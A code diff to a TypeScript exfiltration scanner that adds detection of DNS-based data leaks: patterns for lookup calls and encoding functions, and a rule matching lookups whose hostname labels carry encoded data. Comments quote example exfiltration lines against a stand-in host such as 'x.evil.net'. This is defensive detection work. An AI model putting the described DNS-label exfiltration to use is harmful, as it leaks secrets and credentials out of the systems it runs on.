@@ -33,10 +33,15 @@ function namesSecret(s: string): boolean {
   return false;
 }
 
-/** `withEnv` false: a dump of the environment does not count (E2 reports it where it is read). */
+/** A lookup call (a DNS send site), and code that encodes data into what labels can carry. */
+const DNS_LOOKUP = /\b(?:gethostbyname|getaddrinfo)|\b(?:dns|resolver)\.(?:resolve|lookup|query)/;
+const ENCODES =
+  /\b(?:b(?:16|32|64|85)encode|hexlify|urlsafe_b64encode|btoa)\s*\(|\.hex\(\)|toString\(\s*["'](?:hex|base64)|["'](?:hex|base64|base32)["']\s*\)/;
+
 /** A URL that carries a secret as its password: `https://user:${TOKEN}@host`, `:${{ secrets.T }}@`. */
 const URL_SECRET = /:\/\/[\w.%-]*:(?:\$\{\{[^}\n]*\}\}|\$\{?[A-Za-z_]\w*\}?)@/;
 
+/** `withEnv` false: a dump of the environment does not count (E2 reports it where it is read). */
 function sensitivity(s: string, withEnv = true): number {
   if (namesSecret(s) || ENCODED_OUT.test(s) || URL_SECRET.test(s)) return 2;
   if (
@@ -136,6 +141,14 @@ const SEND_SITES: { langs: string[]; re: RegExp; call: boolean; needs?: RegExp }
     langs: ["shell"],
     re: /\b(?:nslookup|dig|host|ping)\s+[^\n]*\$(?:\([^\n]*\)|\{?\w+\}?)\.[\w.-]+[^\n]*/g,
     call: false,
+  },
+  // A lookup whose leftmost labels are built from data (f"{chunk}.{n}.x.evil.net"): DNS carries them out.
+  {
+    langs: ["python", "js"],
+    re: /\b(?:socket\.(?:gethostbyname(?:_ex)?|getaddrinfo)|dns\.(?:resolve\w*|lookup)|(?:dns\.)?resolver\.(?:resolve|query))\s*\(/g,
+    call: true,
+    needs:
+      /(?:\}|\+\s*["'`])\.?(?:[\w-]+\.)+(?!(?:local|internal|lan|localhost|corp|home|arpa)(?![\w.-]))[a-z]{2,}(?![\w.-])/,
   },
   // A lookup or a transfer run through a process call: os.popen(f"dig {encoded}.x.evil.net").
   {
@@ -400,6 +413,9 @@ const E1_SEND: FileRule = {
       // and when nothing else of note (host, files, output) goes with it there is no separate E1.
       const sens = Math.max(sensitivity(stmt, false), taintOf(stmt, scope.noEnv));
       if (sens < 1 && Math.max(sensitivity(stmt), taintOf(stmt, scope.all)) === 2) continue;
+      // A lookup carries data only in labels it was encoded into (DNS takes [a-z0-9-]); a sharded
+      // host name ("{region}.api.vendor.com") is not a channel.
+      if (DNS_LOOKUP.test(m[0]) && sens < 1 && !ENCODES.test(r.text)) continue;
       // A document's example call to a documentation host (RFC 2606) sends nothing anywhere. A program
       // the skill ships, or a secret in the example, still shows what it is written to do.
       if (sens < 2 && file.markdown && host && RESERVED_HOST.test(host)) continue;
